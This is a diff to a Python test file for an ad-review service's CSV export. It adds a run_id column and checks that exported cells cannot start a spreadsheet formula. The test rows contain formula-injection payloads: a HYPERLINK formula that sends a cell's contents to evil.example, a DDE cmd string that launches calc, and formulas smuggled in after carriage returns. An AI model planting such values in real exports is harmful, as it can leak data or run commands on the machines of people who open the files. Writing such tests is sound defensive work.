@@ -19,6 +19,7 @@ from fastapi.testclient import TestClient
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from adcraft.pipeline.run_record import run_id_of
 from adcraft.serve.decisions import EXPORT_COLUMNS, decisions_table, sqlite_url
 from adcraft.serve.review import build_review_router, export_csv
 from adcraft.serve.run_view import RunView
@@ -227,6 +228,7 @@ def export_frame(rows: list[tuple[str, str, str, str]]) -> pd.DataFrame:
         "predicted_ctr": pd.Series([-0.5] * len(rows), dtype="float64"),
         "note": pd.Series([r[3] for r in rows], dtype=object),
         "decided_at": pd.Series(pd.to_datetime([datetime(2026, 1, 2, tzinfo=UTC)] * len(rows), utc=True)),
+        "run_id": pd.Series(["run-0123456789abcdef"] * len(rows), dtype=object),
     })[list(EXPORT_COLUMNS)]
 
 
@@ -253,7 +255,7 @@ def test_no_exported_cell_starts_a_formula(rows: list[tuple[str, str, str, str]]
         assert json.loads(row[3].removeprefix("'")) == [given_row[2]]
 
 
-def test_export_of_hostile_ids_and_notes_is_inert(client: TestClient, tmp_path: Path) -> None:
+def test_export_of_hostile_ids_and_notes_is_inert(client: TestClient, served_run, tmp_path: Path) -> None:
     rows = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "ok\r=1+1"),
             ("p1", "  @SUM(1+1)", "line one\r\n-2+3")]
     engine = sa.create_engine(sqlite_url(tmp_path / "decisions.sqlite"))  # rows as a market with such ids makes them
@@ -261,7 +263,8 @@ def test_export_of_hostile_ids_and_notes_is_inert(client: TestClient, tmp_path: 
         for product_id, creative_id, note in rows:
             connection.execute(sa.insert(decisions_table).values(
                 product_id=product_id, creative_id=creative_id, decision="approve", note=note,
-                decided_at=datetime.now(UTC), rank=1, elements=["=1+1"], predicted_ctr=0.1, image="x.png"))
+                decided_at=datetime.now(UTC), rank=1, elements=["=1+1"], predicted_ctr=0.1, image="x.png",
+                run_id=run_id_of(served_run[0]), render={}))
     engine.dispose()
     parsed = universal_newline_rows(client.get("/v1/decisions/export", params={"format": "csv"}).text)
     assert len(parsed) == 1 + len(rows)
